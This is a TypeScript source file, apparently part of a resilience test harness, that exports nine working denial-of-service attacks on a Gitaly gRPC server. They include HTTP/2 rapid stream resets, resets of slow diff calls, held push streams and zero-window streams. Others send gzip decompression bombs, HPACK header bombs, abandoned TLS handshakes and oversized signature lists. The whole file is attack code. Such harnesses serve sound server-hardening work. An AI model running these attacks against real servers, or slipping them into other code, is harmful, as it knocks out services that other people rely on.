import { once } from 'node:events';
import { createServer } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import { gzipSync } from 'node:zlib';
import { create, toBinary } from '@bufbuild/protobuf';
import { connectGrpc } from '#rpc/common/grpc/grpc-channel';
import { encodeFrame } from '#rpc/common/grpc/grpc-frame';
import {
  FilterShasWithSignaturesRequestSchema,
  FindCommitRequestSchema,
  ListCommitsByOidRequestSchema,
} from '#wire/gen/commit_pb';
import { RawDiffRequestSchema } from '#wire/gen/diff_pb';
import { SSHReceivePackRequestSchema } from '#wire/gen/ssh_pb';
import { callHeaders, END_HEADERS, END_STREAM, FRAME, uint32 } from './http2-frames.ts';
import { connected, RawConnection } from './raw-connection.ts';

/** Target of an attack. */
export interface Target {
  /** `host:port` of the listeners. */
  readonly tcp: string;
  readonly tls: string;
  readonly repository: { readonly storageName: string; readonly relativePath: string };
  /** Two commits whose diff is large. */
  readonly revisions: readonly [string, string];
  /** Time for which waiting connections are held open. */
  readonly holdMs: number;
}

const INITIAL_WINDOW_SIZE = 4;
const CANCEL = uint32(8);
const LARGEST_MESSAGE_BYTES = 4_194_304;
const id = (index: number): number => 2 * index + 1;

async function together(count: number, one: (index: number) => Promise<void>): Promise<void> {
  await Promise.all(Array.from({ length: count }, (_, index) => one(index)));
}

function rawDiff({ repository, revisions: [left, right] }: Target): Buffer {
  const request = create(RawDiffRequestSchema, { repository, leftCommitId: left, rightCommitId: right });
  return Buffer.concat(encodeFrame([toBinary(RawDiffRequestSchema, request)]));
}

const RAW_DIFF = callHeaders('/gitaly.DiffService/RawDiff');
const FIND_COMMIT = callHeaders('/gitaly.CommitService/FindCommit');

/** Starts slow calls and cancels them, on one new connection after the other. */
async function resetSlowCalls(target: Target, connections: number): Promise<void> {
  const request = rawDiff(target);
  const [calls, group] = [4000, 100];
  for (let at = 0; at < connections; at++) {
    const connection = await RawConnection.open(target.tcp);
    for (let index = 0; index < calls && connection.isOpen; index++) {
      connection.send(FRAME.headers, END_HEADERS, id(index), RAW_DIFF);
      connection.send(FRAME.data, END_STREAM, id(index), request);
      if (index % group !== group - 1) continue;
      await connection.flush();
      await sleep(5); // the server starts to work on them
      for (let reset = index - group + 1; reset <= index; reset++)
        connection.send(FRAME.resetStream, 0, id(reset), CANCEL);
    }
    await connection.flush();
    connection.close();
  }
}

/** Opens streams and resets them immediately, on many connections, and reconnects when it is cut. */
async function rapidResets(target: Target, connections: number): Promise<void> {
  const message = create(FindCommitRequestSchema, {
    repository: target.repository,
    revision: Buffer.from('main'),
  });
  const request = Buffer.concat(encodeFrame([toBinary(FindCommitRequestSchema, message)]));
  await untilCut(target, connections, async (connection, first) => {
    for (let index = first; index < first + RESETS_AT_ONCE; index++) {
      connection.send(FRAME.headers, END_HEADERS, id(index), FIND_COMMIT);
      connection.send(FRAME.data, END_STREAM, id(index), request);
      connection.send(FRAME.resetStream, 0, id(index), CANCEL);
    }
  });
}

/** The same with slow calls, which it resets once they have started. */
async function rapidResetsOfSlowCalls(target: Target, connections: number): Promise<void> {
  const request = rawDiff(target);
  await untilCut(target, connections, async (connection, first) => {
    for (let index = first; index < first + RESETS_AT_ONCE; index++) {
      connection.send(FRAME.headers, END_HEADERS, id(index), RAW_DIFF);
      connection.send(FRAME.data, END_STREAM, id(index), request);
    }
    await connection.flush();
    await sleep(3); // the server starts to work on them
    for (let index = first; index < first + RESETS_AT_ONCE; index++)
      connection.send(FRAME.resetStream, 0, id(index), CANCEL);
  });
}

const RESETS_AT_ONCE = 20;

/** Repeats a batch of streams on many connections for a time, on new ones when they are cut. */
async function untilCut(
  target: Target,
  connections: number,
  batch: (connection: RawConnection, first: number) => Promise<void>,
): Promise<void> {
  const end = performance.now() + target.holdMs;
  await together(connections, async () => {
    while (performance.now() < end) {
      const connection = await RawConnection.open(target.tcp);
      for (let first = 0; connection.isOpen && performance.now() < end; first += RESETS_AT_ONCE) {
        await batch(connection, first);
        await connection.flushLarge();
        if (first % 500 === 0) await sleep(0); // the connection may have been cut
      }
      await connection.flush();
      connection.close();
    }
  });
}

/** Opens pushes and sends no data. */
async function heldPushes(target: Target, pushes: number): Promise<void> {
  const perConnection = 100;
  const message = create(SSHReceivePackRequestSchema, { repository: target.repository, glId: 'user-1' });
  const request = Buffer.concat(encodeFrame([toBinary(SSHReceivePackRequestSchema, message)]));
  const headers = callHeaders('/gitaly.SSHService/SSHReceivePack');
  await together(Math.ceil(pushes / perConnection), async () => {
    const connection = await RawConnection.open(target.tcp);
    for (let index = 0; index < perConnection; index++) {
      connection.send(FRAME.headers, END_HEADERS, id(index), headers);
      connection.send(FRAME.data, 0, id(index), request);
    }
    await connection.flush();
    await sleep(target.holdMs);
    connection.close();
  });
}

/** Starts calls whose responses have no window. */
async function unreadStreams(target: Target, streams: number): Promise<void> {
  const perConnection = 100;
  const request = rawDiff(target);
  await together(Math.ceil(streams / perConnection), async () => {
    const connection = await RawConnection.open(target.tcp, [INITIAL_WINDOW_SIZE, 0]);
    for (let index = 0; index < perConnection; index++) {
      connection.send(FRAME.headers, END_HEADERS, id(index), RAW_DIFF);
      connection.send(FRAME.data, END_STREAM, id(index), request);
    }
    await connection.flush();
    await sleep(target.holdMs);
    connection.close();
  });
}

/** Sends small messages that decompress to the largest size. */
async function compressedMessages(target: Target, calls: number): Promise<void> {
  const overhead = 200;
  const long = Buffer.alloc(LARGEST_MESSAGE_BYTES - overhead, 'a');
  const find = create(FindCommitRequestSchema, { repository: target.repository, revision: long });
  const list = Buffer.concat([
    toBinary(
      ListCommitsByOidRequestSchema,
      create(ListCommitsByOidRequestSchema, { repository: target.repository }),
    ),
    Buffer.alloc(LARGEST_MESSAGE_BYTES - overhead, Buffer.of(0x12, 0)),
  ]);
  const kinds = [
    { path: '/gitaly.CommitService/FindCommit', message: toBinary(FindCommitRequestSchema, find) },
    { path: '/gitaly.CommitService/ListCommitsByOid', message: list },
  ].map(({ path, message }) => ({
    headers: callHeaders(path, { 'grpc-encoding': 'gzip' }),
    request: compressed(gzipSync(message)),
  }));
  const connections = 10;
  await together(connections, async (at) => {
    const connection = await RawConnection.open(target.tcp);
    const ended = once(connection.socket, 'close').catch(() => {});
    for (let index = 0; index < calls / connections && connection.isOpen; index++) {
      const kind = kinds[(index + at) % kinds.length];
      if (kind === undefined) continue;
      connection.send(FRAME.headers, END_HEADERS, id(index), kind.headers);
      connection.send(FRAME.data, END_STREAM, id(index), kind.request);
      await connection.flushLarge();
    }
    await connection.flush();
    await Promise.race([ended, sleep(target.holdMs)]);
    connection.close();
  });
}

function compressed(packed: Buffer): Buffer {
  const bytes = Buffer.concat(encodeFrame([packed]));
  bytes[0] = 1;
  return bytes;
}

/** Sends header blocks in which each byte represents a field of 4,000 bytes. */
async function headerBombs(target: Target, connections: number): Promise<void> {
  const field = Buffer.concat([Buffer.of(0x40, 1, 0x78, 127, 0xa1, 0x1e), Buffer.alloc(4000, 0x61)]);
  const bomb = Buffer.concat([FIND_COMMIT, Buffer.alloc(15_000, 0xbe)]);
  await together(connections, async () => {
    const connection = await RawConnection.open(target.tcp);
    connection.send(FRAME.headers, END_HEADERS | END_STREAM, 1, Buffer.concat([FIND_COMMIT, field]));
    for (let index = 1; index < 500 && connection.isOpen; index++) {
      connection.send(FRAME.headers, END_HEADERS | END_STREAM, id(index), bomb);
      await connection.flushLarge();
    }
    await connection.flush();
    await sleep(200); // the server reads what was sent
    connection.close();
  });
}

/** Begins TLS handshakes and disconnects when the server has done its part. */
async function abandonedHandshakes(target: Target, handshakes: number): Promise<void> {
  const hello = await clientHello();
  const atOnce = 1000;
  let begun = 0;
  await together(atOnce, async () => {
    while (begun < handshakes) {
      begun += 1;
      const socket = await connected(target.tls);
      socket.write(hello);
      await Promise.race([once(socket, 'data'), once(socket, 'close'), sleep(target.holdMs)]).catch(() => {});
      socket.destroy();
    }
  });
}

/** Returns the first message of a TLS client. */
async function clientHello(): Promise<Buffer> {
  const server = createServer();
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  const client = connectTls({ port, host: '127.0.0.1', ALPNProtocols: ['h2'], rejectUnauthorized: false });
  client.on('error', () => {});
  const [socket] = await once(server, 'connection');
  const [hello] = await once(socket, 'data');
  client.destroy();
  server.close();
  return hello;
}

/** Sends the longest lists of the shortest names. */
async function longLists(target: Target, calls: number): Promise<void> {
  const name = Buffer.concat([Buffer.of(0x12, 4), Buffer.from('main')]);
  const message = Buffer.concat([
    toBinary(
      FilterShasWithSignaturesRequestSchema,
      create(FilterShasWithSignaturesRequestSchema, { repository: target.repository }),
    ),
    Buffer.alloc(666_666 * name.length, name),
  ]);
  const method = { path: '/gitaly.CommitService/FilterShasWithSignatures', kind: 'bidi_stream' } as const;
  const channels = 4;
  await together(channels, async () => {
    const channel = connectGrpc((await connected(target.tcp)).pause());
    const answers: Promise<unknown>[] = [];
    for (let index = 0; index < calls / channels; index++) {
      answers.push(Array.fromAsync(channel.invokeRaw(method, [message])).catch(() => {}));
      await sleep(20); // calls begin one after the other
    }
    await Promise.all(answers);
    channel.destroy();
  });
}

/** Each attack with its measure. */
export const ATTACKS = {
  resetSlowCalls,
  rapidResets,
  rapidResetsOfSlowCalls,
  heldPushes,
  unreadStreams,
  compressedMessages,
  headerBombs,
  abandonedHandshakes,
  longLists,
} as const;

export type AttackName = keyof typeof ATTACKS;
